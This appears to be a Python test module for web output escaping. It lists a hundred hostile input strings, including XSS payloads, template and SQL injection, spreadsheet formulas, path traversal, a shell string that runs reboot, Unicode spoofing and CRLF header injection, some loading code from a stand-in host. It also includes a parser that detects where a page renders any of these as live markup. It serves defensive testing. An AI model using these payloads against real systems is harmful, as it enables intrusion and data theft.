"""Hostile strings: a hundred of many kinds, each with a mark by which a page's text is searched.

The mark stands at the end of each. Where a page shows a string as text, all of it stands in one
piece before its mark; where it was taken as HTML, it does not.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from urllib.parse import quote, quote_plus

_SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert`1`</script >",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src=`x`onerror=alert(1)>",
    "<IMG SRC=&#106;avascript:alert(1)>",
    "<svg onload=alert(1)>",
    "'><svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=0 y=9>X</text></a></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>here</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>here</a>",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    "x onerror=alert(1)",
    '" style="position:fixed;inset:0" x="',
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</pre></code><img src=x onerror=alert(1)>",
    "</td></tr></table><h1>Approved</h1>",
    "<div hx-get=/account/tokens hx-trigger=load></div>",
    "<a hx-post='/sign-out' hx-trigger='load'>x</a>",
    "<div hx-on:load='alert(1)'></div>",
    "<div data-hx-get=/account hx-ext=x></div>",
    "<button data-switch-theme>x</button>",
    "<div data-chart='{}'></div>",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%s%s%n%x",
    "{0.__class__}",
)
_ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&zwnj;&quot;&apos;&",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
_LETTERS = (
    "\u202eevil txt.exe\u202c",
    "\u2066isolated\u2069 \u200fright",
    "zero\u200bwidth\u200djoiner\ufeff",
    "\u0430dmin with a Cyrillic a",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f3\ufe0f\u200d\U0001f308",
    "Z\u0351\u036b\u0343a\u0363\u0357l\u0348\u0349g\u0347o\u0353",
    "\u0627\u0644\u0645\u0631\u064a\u0636 \u4e2d\u6587 \u0939\u093f\u0928\u094d\u0926\u0940",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "W" * 180,
    "-" * 120,
)
_COMMANDS = (
    "'; DROP TABLE datasets; --",
    '" OR ""="',
    "1 UNION SELECT token FROM tokens",
    "%' ESCAPE '!' OR 1=1 --",
    '=HYPERLINK("//evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "$(reboot) `reboot` ; reboot | reboot",
)
_CONTROLS = (
    "line\r\nSet-Cookie: taciturn=evil",
    "nul\x00byte",
)


def _marked() -> tuple[str, ...]:
    plain = (*_SCRIPTS, *_TEMPLATES, *_ENTITIES, *_LETTERS, *_COMMANDS, *_CONTROLS)
    return tuple(f"{text} zqzq{number:02}xqxq" for number, text in enumerate(plain))


HOSTILE = _marked()
"""One hundred of them."""

PRINTABLE = tuple(text for text in HOSTILE if not re.search(r"[\x00-\x1f]", text))
"""Those that are one line, as names are."""

MARK = re.compile(r"zqzq(\d\d)xqxq", re.IGNORECASE)


_ADDRESSES = ("href", "src", "action", "formaction", "hx-get", "hx-post")


class Injected(HTMLParser):
    """Places of a page where a hostile string is more than text.

    Attributes:
        places: what was wrong, in words; empty for a page that shows strings as text.
        shown: numbers of the strings that the page shows.
    """

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.places: list[str] = []
        self.shown: set[int] = set()
        self._run = ""
        self.feed(text)
        self.close()
        self._end_of_run()
        lost = {int(number) for number in MARK.findall(text)} - self.shown
        self.places += [f"lost to a parser: {HOSTILE[number]!r}" for number in sorted(lost)]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at an element's name, the names of its attributes, and their values."""
        self._end_of_run()
        for name, value in attrs:
            if MARK.search(name):
                self.places.append(f"attribute {name!r} of <{tag}>")
            self._look(value or "", f"{name} of <{tag}>")
            address = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            if name in _ADDRESSES and re.match(r"(javascript|data|vbscript):|//|/\\", address):
                self.places.append(f"{name}={value!r} of <{tag}>")
        if MARK.search(tag):
            self.places.append(f"element <{tag}>")

    def handle_endtag(self, tag: str) -> None:
        """End the run of text before it."""
        self._end_of_run()

    def handle_data(self, data: str) -> None:
        """Gather a run of text."""
        self._run += data

    def handle_comment(self, data: str) -> None:
        """Look for a string in a comment."""
        self._end_of_run()
        if MARK.search(data):
            self.places.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        """Look for a string in a declaration."""
        self.handle_comment(decl) if decl.lower() != "doctype html" else self._end_of_run()

    def unknown_decl(self, data: str) -> None:
        """Look for a string in a section that is no HTML."""
        self.handle_comment(data)

    def _end_of_run(self) -> None:
        self._look(self._run, "text")
        self._run = ""

    def _look(self, text: str, place: str) -> None:
        for match in MARK.finditer(text):
            number = int(match[1])
            self.shown.add(number)
            if not any(form in _even(text) for form in _forms(HOSTILE[number])):
                self.places.append(f"{place}: {text[max(0, match.start() - 80) : match.end()]!r}")


def _forms(text: str) -> list[str]:
    """Return the ways in which a string may stand in a page as text."""
    printed = [text, text.lower(), text.upper(), repr(text)[1:-1], json.dumps(text)[1:-1]]
    printed += [json.dumps(text, ensure_ascii=False)[1:-1], text.replace('"', '""')]
    printed += [text.replace("'", "''"), quote(text), quote(text, safe=""), quote_plus(text)]
    script = json.dumps(text)[1:-1]
    for character in "<>&'":
        script = script.replace(character, f"\\u{ord(character):04x}")
    return [_even(form) for form in [*printed, script]]


def _even(text: str) -> str:
    """Return a text as parsers of HTML read it: lines end in one way, and there is no nul."""
    return re.sub(r"\s+", " ", text.replace("\x00", "").replace("\ufffd", ""))
